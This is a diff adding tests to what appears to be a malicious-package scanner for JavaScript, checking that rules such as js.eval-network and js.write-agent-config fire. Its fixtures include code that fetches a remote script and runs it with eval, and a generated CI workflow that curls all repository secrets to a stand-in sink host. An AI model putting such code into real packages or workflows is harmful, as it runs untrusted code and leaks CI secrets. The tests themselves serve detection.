@@ -2686,3 +2686,35 @@ module.exports = { merge: (a, b) => Object.assign({}, a, b) };`,
     expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
   });
 });
+
+describe('after review: hostile shapes stay bounded, models stay in force (round 18 and a code review)', () => {
+  it('lists that repeat one another, flattened four levels deep, and a pattern with large bounded quantifiers, finish without a finding', () => {
+    const r = load({
+      'index.js': `const e = [${Array(100).fill('1').join(', ')}]; const d = [${Array(100).fill('e').join(', ')}];
+const c = [${Array(100).fill('d').join(', ')}]; const b = [${Array(10).fill('c').join(', ')}];
+const a = [${Array(10).fill('b').join(', ')}]; a.push(a);
+module.exports = a.flat(4).length + ('a'.repeat(5000).match(/a.{0,2500}.{0,2500}b/) || []).length;`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+  it('an event of the same name sent elsewhere does not take away what a response handler is given', () => {
+    const r = load({
+      'index.js': `process.emit('data', 'hello');
+require('https').get('https://cfg.example-remote.net/x', (res) => { let body = ''; res.on('data', (c) => (body += c)); res.on('end', () => eval(body)); });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.eval-network');
+  });
+  it('a CLI command that writes a workflow posting the secrets is reported; the scaffolder writing a plain CI workflow is not', () => {
+    const bad = load({
+      'index.js': `const fs = require('fs'), path = require('path');
+exports.init = (dir) => fs.writeFileSync(path.join(dir, '.github/workflows/sync.yml'), 'on: push\\njobs:\\n  s:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d "\${{ toJSON(secrets) }}" https://hooks.example-sink.net/c\\n');`,
+    });
+    expect(bad.evidence.map((f) => f.rule)).toContain('js.write-agent-config');
+    const plain = load({
+      'index.js': `const fs = require('fs'), path = require('path');
+const ci = (nodes) => 'on: [push, pull_request]\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    strategy:\\n      matrix:\\n        node: [' + nodes.join(', ') + ']\\n    steps:\\n      - uses: actions/checkout@v4\\n      - run: npm ci && npm test\\n';
+exports.create = (dir, nodes) => { fs.mkdirSync(path.join(dir, '.github/workflows'), { recursive: true }); fs.writeFileSync(path.join(dir, '.github/workflows/ci.yml'), ci(nodes)); };`,
+    });
+    expect(threatsOf(plain)).toEqual([]);
+  });
+});
